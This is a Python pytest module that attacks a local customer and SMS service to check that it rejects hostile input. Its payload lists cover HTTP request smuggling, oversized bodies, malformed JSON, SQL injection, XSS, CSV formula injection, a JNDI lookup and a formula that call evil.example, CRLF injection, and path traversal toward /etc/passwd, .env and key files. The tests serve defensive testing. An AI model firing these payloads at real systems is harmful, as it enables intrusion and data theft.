"""Ambiguous requests, oversized bodies, names with formulas and links, path tricks."""

import json
import re
import time
import unicodedata
from typing import Any
from urllib.parse import quote

import pytest

from tests.attacks.conftest import Try
from tests.attacks.wire import HOST, send
from tests.support.system import BASE, CUSTOMER, System

pytestmark = pytest.mark.local
HIDDEN = b"GET /healthz HTTP/1.1\r\nHost: localhost:00000\r\n\r\n"


def chunked(body: bytes) -> bytes:
    """Return a request with this chunked body."""
    return b"POST /healthz HTTP/1.1\r\nHost: localhost:00000\r\nTransfer-Encoding: chunked\r\n\r\n" + body


def framed(*headers: bytes, body: bytes = HIDDEN) -> bytes:
    """Return a request with these headers whose body is another request."""
    return b"\r\n".join([b"POST /healthz HTTP/1.1", b"Host: " + HOST, *headers, b"", body])


SMUGGLED: dict[str, bytes] = {
    "CL and TE": framed(b"Content-Length: 4", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + HIDDEN),
    "TE and CL": framed(b"Transfer-Encoding: chunked", b"Content-Length: 4", body=b"0\r\n\r\n" + HIDDEN),
    "two lengths": framed(b"Content-Length: 0", b"Content-Length: %d" % len(HIDDEN)),
    "two lengths in one": framed(b"Content-Length: 0, %d" % len(HIDDEN)),
    "a length with a sign": framed(b"Content-Length: +0"),
    "a negative length": framed(b"Content-Length: -1"),
    "a length in hex": framed(b"Content-Length: 0x0"),
    "a length with an underscore": framed(b"Content-Length: 1_0"),
    "a length in other digits": framed("Content-Length: ٤".encode()),
    "an empty length": framed(b"Content-Length:"),
    "a space before the colon": framed(b"Content-Length : 0"),
    "TE with a space before the colon": framed(b"Transfer-Encoding : chunked", body=b"0\r\n\r\n" + HIDDEN),
    "TE of an unknown coding": framed(b"Transfer-Encoding: xchunked", body=b"0\r\n\r\n" + HIDDEN),
    "TE chunked and then another": framed(b"Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n" + HIDDEN),
    "TE twice": framed(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity", body=b"0\r\n\r\n" + HIDDEN),
    "TE chunked twice": framed(b"Transfer-Encoding: chunked, chunked", body=b"0\r\n\r\n" + HIDDEN),
    "TE after a vertical tab": framed(b"Transfer-Encoding: \x0bchunked", body=b"0\r\n\r\n" + HIDDEN),
    "a folded header": framed(b"X: y", b" Content-Length: 0"),
    "a folded first header": framed(b" X: y"),
    "TE in a folded line": framed(b"Transfer-Encoding:", b" chunked", body=b"0\r\n\r\n" + HIDDEN),
    "a NUL in a header": framed(b"X: a\0b"),
    "a NUL in a header's name": framed(b"X\0: a"),
    "a bare CR in a header": framed(b"X: a\rContent-Length: 0"),
    "no colon": framed(b"Content-Length"),
    "no name": framed(b": 0"),
    "a chunk's size no number": chunked(b"z\r\n" + HIDDEN),
    "a chunk's size negative": chunked(b"-1\r\n" + HIDDEN),
    "a chunk's size in 0x": chunked(b"0x0\r\n\r\n" + HIDDEN),
    "a chunk's size with a plus": chunked(b"+0\r\n\r\n" + HIDDEN),
    "a chunk's size with an underscore": chunked(b"0_0\r\n\r\n" + HIDDEN),
    "a chunk's size of 100 digits": chunked(b"f" * 100 + b"\r\n" + HIDDEN),
    "a chunk longer than its size": chunked(b"1\r\nab\r\n0\r\n\r\n" + HIDDEN),
    "a chunk ended by a bare LF": chunked(b"1\na\n0\n\n" + HIDDEN),
    "a bare LF in a chunk's extension": chunked(b"0;a\nb\r\n\r\n" + HIDDEN),
    "two versions": b"GET /healthz HTTP/1.1 HTTP/1.1\r\nHost: localhost:00000\r\n\r\n",
    "a version of its own": b"GET /healthz HTTP/9.9\r\nHost: localhost:00000\r\n\r\n",
    "no version, with headers": b"GET /healthz\r\nHost: localhost:00000\r\n\r\n",
    "no version": b"GET /healthz\r\n\r\n",
    "a method with a bracket": b"GE(T /healthz HTTP/1.1\r\nHost: localhost:00000\r\n\r\n",
    "HTTP/2's preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_no_request_hides_in_another(name: str, target: System, tried: Try) -> None:
    reply = send(target.port, SMUGGLED[name], seconds=3)
    # One answer, a refusal, and the connection ends: the rest is never read as a request.
    passed = len(reply.statuses) != 1 or not 400 <= reply.status < 500 or not reply.ended
    tried("Request smuggling", passed)
    assert not passed, reply
    assert target.answers()


LIMITS: dict[str, bytes] = {
    "a header of 11 kB": framed(b"X: " + b"y" * 11_000, b"Content-Length: 0", body=b""),
    "a header of 1 MB": framed(b"X: " + b"y" * 1_000_000, b"Content-Length: 0", body=b""),
    "a target of 100 kB": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: localhost:00000\r\n\r\n",
    "100,000 headers": framed(*[b"X: y"] * 100_000, b"Content-Length: 0", body=b""),
    "a body of 11 MB": framed(b"Content-Length: 11000000", body=b"a" * 11_000_000),
    "a body that is said to be 10^18 bytes": framed(b"Content-Length: 1000000000000000000", body=b"a"),
    "a chunked body of 11 MB": chunked((b"100000\r\n" + b"a" * 0x100000 + b"\r\n") * 11 + b"0\r\n\r\n"),
}


@pytest.mark.parametrize("name", LIMITS)
def test_an_oversized_request_is_refused(name: str, target: System, tried: Try) -> None:
    reply = send(target.port, LIMITS[name], seconds=10)
    tried(
        "Headers and bodies beyond the limits",
        not reply.statuses or not all(s in {400, 404, 413, 431} for s in reply.statuses),
    )
    assert reply.statuses
    assert set(reply.statuses) <= {400, 404, 413, 431}, reply.raw[:300]
    assert target.answers()


def field(name: str, value: str) -> bytes:
    """Return a customer with this JSON text as one field."""
    return json.dumps(CUSTOMER | {name: "@"}).replace('"@"', value).encode()


BODIES: dict[str, bytes] = {
    "lists in lists": b"[" * 90_000,
    "lists in lists, closed": b"[" * 49_000 + b"]" * 49_000,
    "objects in objects": b'{"a":' * 16_000 + b"1" + b"}" * 16_000,
    "a field nested deep": field("name", "[" * 40_000 + "]" * 40_000),
    "a number of 10^6 digits": field("name", "9" * 1_000_000),
    "a number of 90,000 digits": field("name", "9" * 90_000),
    "a negative number of 90,000 digits": field("name", "-" + "9" * 90_000),
    "a fraction of 90,000 digits": field("name", "0." + "9" * 90_000),
    "an exponent of 18 digits": field("name", "1e999999999999999999"),
    "an exponent beyond all": field("name", "1e" + "9" * 5_000),
    "NaN": field("name", "NaN"),
    "Infinity": field("name", "Infinity"),
    "a name twice": b'{"name": "a", ' + json.dumps(CUSTOMER).encode()[1:],
    "a name twice, once escaped": b'{"n\\u0061me": "a", ' + json.dumps(CUSTOMER).encode()[1:],
    "a lone surrogate": field("name", '"\\ud800"'),
    "UTF-16": json.dumps(CUSTOMER).encode("utf-16"),
    "UTF-32": json.dumps(CUSTOMER).encode("utf-32"),
    "UTF-7": b"+AHsAfQ-",
    "two byte order marks": b"\xef\xbb\xbf" + b"\xef\xbb\xbf" + json.dumps(CUSTOMER).encode(),
    "bytes that are no UTF-8": field("name", '"@"').replace(b"@", b"\xff\xfe"),
    "overlong UTF-8": field("name", '"@"').replace(b"@", b"\xc0\xaf"),
    "a NUL in a string": field("name", '"a\0b"'),
    "__proto__": b'{"__proto__": {"id": "1"}, ' + json.dumps(CUSTOMER).encode()[1:],
    "a field of ours": b'{"id": "1", "sms_opted_out": true, ' + json.dumps(CUSTOMER).encode()[1:],
    "an operator for a value": field("email", '{"$ne": null}'),
    "a stored type for a value": field("email", '{"S": "x"}'),
    "nothing": b"",
    "null": b"null",
    "text": b'"x"',
    "two documents": json.dumps(CUSTOMER).encode() * 2,
    "comments": b"/* x */" + json.dumps(CUSTOMER).encode(),
    "100,001 bytes": field("name", '"' + "a" * 100_001 + '"'),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_body_that_is_not_a_customer_is_refused(name: str, target: System, tried: Try) -> None:
    answer = target.call("POST", "customers", BODIES[name], content_type="application/json")
    tried("Hostile bodies", not 400 <= answer.status < 500)
    assert answer.status in {400, 413, 415, 422}, answer
    assert answer.headers["content-type"] == "application/problem+json"


AMOUNTS = ["9" * 1000, "9" * 90_000, "-1", "0", "NaN", "Infinity", "1_000", "٤٢", "1,5", "0x10", "1" + "0" * 30, "1.001", " 1", ""]  # fmt: skip


@pytest.mark.parametrize("amount", AMOUNTS)
def test_an_invalid_amount_is_refused(amount: str, target: System, tried: Try) -> None:
    answer = target.call("POST", "sms/preview", {"name": "a", "item": "b", "amount": amount})
    tried("Hostile amounts", answer.status != 422)
    assert answer.status == 422, answer


# JSON numbers, which the parser sees before any check: up to the limit of bodies, and beyond it.
NUMBERS: dict[str, tuple[str, int]] = {
    "10^6 digits": ("9" * 1_000_000, 413),
    "99,000 digits": ("9" * 99_000, 400),
    "99,000 digits below zero": ("-" + "9" * 99_000, 400),
    "99,000 digits after the point": ("0." + "9" * 99_000, 422),
    "99,000 digits before the point": ("9" * 99_000 + ".0", 422),
    "a one after 98,000 zeros": ("1." + "0" * 98_000 + "1", 422),
    "an exponent of a million": ("1e999999", 422),
    "an exponent of minus a million": ("1e-999999", 422),
    "a long number with an exponent back": ("9" * 50_000 + "e-40000", 422),
    "an exponent of 99,000 digits": ("1e" + "9" * 99_000, 400),
}


@pytest.mark.parametrize("name", NUMBERS)
def test_an_amount_of_many_digits_is_refused_quickly(name: str, target: System, tried: Try) -> None:
    number, expected = NUMBERS[name]
    body = f'{{"name": "a", "item": "b", "amount": {number}}}'
    began = time.perf_counter()
    answer = target.call("POST", "sms/preview", body)
    seconds = time.perf_counter() - began
    tried("Hostile amounts", not 400 <= answer.status < 500 or seconds > 2)
    assert answer.status == expected, answer
    assert seconds < 2
    assert number[:50] not in answer.raw.decode()


NAMES: dict[str, str] = {
    "a formula": '=HYPERLINK("http://evil.example/?a="&A1,"x")',
    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula with plus": "+1+1",
    "a formula with minus": "-2+3",
    "a formula after a tab": "\t=1+1",
    "a link": "win at https://evil.example/x",
    "a link without scheme": "evil.example/x now",
    "a domain": "call evil.example today",
    "www": "www.evil.example",
    "a domain with a full-width dot": "evil．example/x",
    "a domain with an ideographic dot": "evil。example/x",
    "a domain with a half-width ideographic dot": "evil｡example/x",
    "a domain split without width": "evil.\u200bexample/x",
    "a domain in Cyrillic": "еvіl.ехаmрlе/x",
    "a line break": "a\nYour code is 1234",
    "a carriage return": "a\rYour code is 1234",
    "a line separator": "a\u2028Your code",
    "an escape sequence": "a\x1b[31mb",
    "a backspace": "ab\x08\x08cd",
    "a bidirectional override": "abc\u202etxt.exe",
    "isolates": "a\u2066b\u2069c",
    "zero width": "a\u200b\u200c\u200d\ufeffb",
    "tags": "a\U000e0041\U000e0042",
    "combining marks": "Z" + "\u0300" * 60,
    "a placeholder": "{item} {amount} {name.__class__}",
    "a percent placeholder": "%s%s%n",
    "HTML": "<script>alert(1)</script>",
    "an attribute": '"><img src=x onerror=alert(1)>',
    "SQL": "'; DROP TABLE customers; --",
    "a template of another language": "${jndi:ldap://evil.example/a}{{7*7}}",
    "an e-mail header": "a\r\nBcc: someone@example.com",
    "an emoji of several parts": "👩‍👩‍👧‍👦",
    "a noncharacter": "a\uffffb",
    "private use": "a\ue000b",
    "NUL": "a\0b",
}
LINK = re.compile(r"://|www\.|[a-z]\.[a-z]|[^\W_][.．。｡][^\W\d_]", re.IGNORECASE)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_stored_unchanged_and_harmless_in_a_text(name: str, target: System, tried: Try) -> None:
    given = NAMES[name]
    answer = target.call("POST", "customers", CUSTOMER | {"name": given})
    assert answer.status in {201, 422}, answer
    text: str = ""
    if answer.status == 201:
        # JSON carries it as data: a client that shows it in a sheet or a page must escape it.
        assert answer.headers["content-type"] == "application/json"
        body: dict[str, Any] = {"customer": answer.body["id"], "item": given[:90], "amount": "1"}
        order = target.call("POST", "orders", body)
        assert order.status in {201, 422}, order
        text = order.body["sms"]["text"] if order.status == 201 else ""
    preview = target.call("POST", "sms/preview", {"name": given, "item": "b", "amount": "1"})
    assert preview.status in {200, 422}, preview
    said = (text + preview.body.get("folded", "")).replace("1.00", "")
    controls = [each for each in said if unicodedata.category(each) in {"Cc", "Zl", "Zp"}]
    tried("Formulas, links, controls and placeholders in names", bool(controls or LINK.search(said)))
    assert not controls
    assert not LINK.search(said), said


PATHS = [
    f"{BASE}/customers/../orders", f"{BASE}/customers/%2e%2e/orders", f"{BASE}/customers/..%2forders",
    f"{BASE}//customers", f"//{BASE}/customers", f"{BASE}/customers//", f"{BASE}/./customers", f"{BASE}/customers/%00",
    f"{BASE}/customers/%ff%fe", f"{BASE}/customers/{'a' * 5000}", f"{BASE}/Customers", f"{BASE}/customers;a=b",
    f"{BASE}/customers/{quote('٤', safe='')}", f"{BASE}/customers/%252e%252e",
    f"{BASE}/customers\\x", f"{BASE}/orders/%0d%0aSet-Cookie:a=b", f"{BASE}/orders/*", f"{BASE}/orders/{{order}}",
    "/docs/../template.yaml", "/docs/%2e%2e/%2e%2e/template.yaml", "/docs/..%2f..%2fetc%2fpasswd", "/docs/%5c..%5cx",
    "/docs//etc/passwd", "/.env", "/.git/config", "/.local/identity.pem", "/docs/%00index.html", "/_sandbox/messages",
    "/2015-03-31/functions/send_sms/invocations",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
def test_a_path_only_leads_to_its_own_route(path: str, target: System, tried: Try) -> None:
    for bearer in (b"", b"Authorization: Bearer " + target.token().encode() + b"\r\n"):
        line = b"GET " + path.encode() + b" HTTP/1.1\r\nHost: localhost:00000\r\nConnection: close\r\n"
        reply = send(target.port, line + bearer + b"\r\n")
        tried("Path tricks", not 400 <= reply.status < 500)
        assert reply.status in {400, 401, 404, 405, 422}, reply
        assert b"set-cookie" not in reply.raw.lower().partition(b"\r\n\r\n")[0]
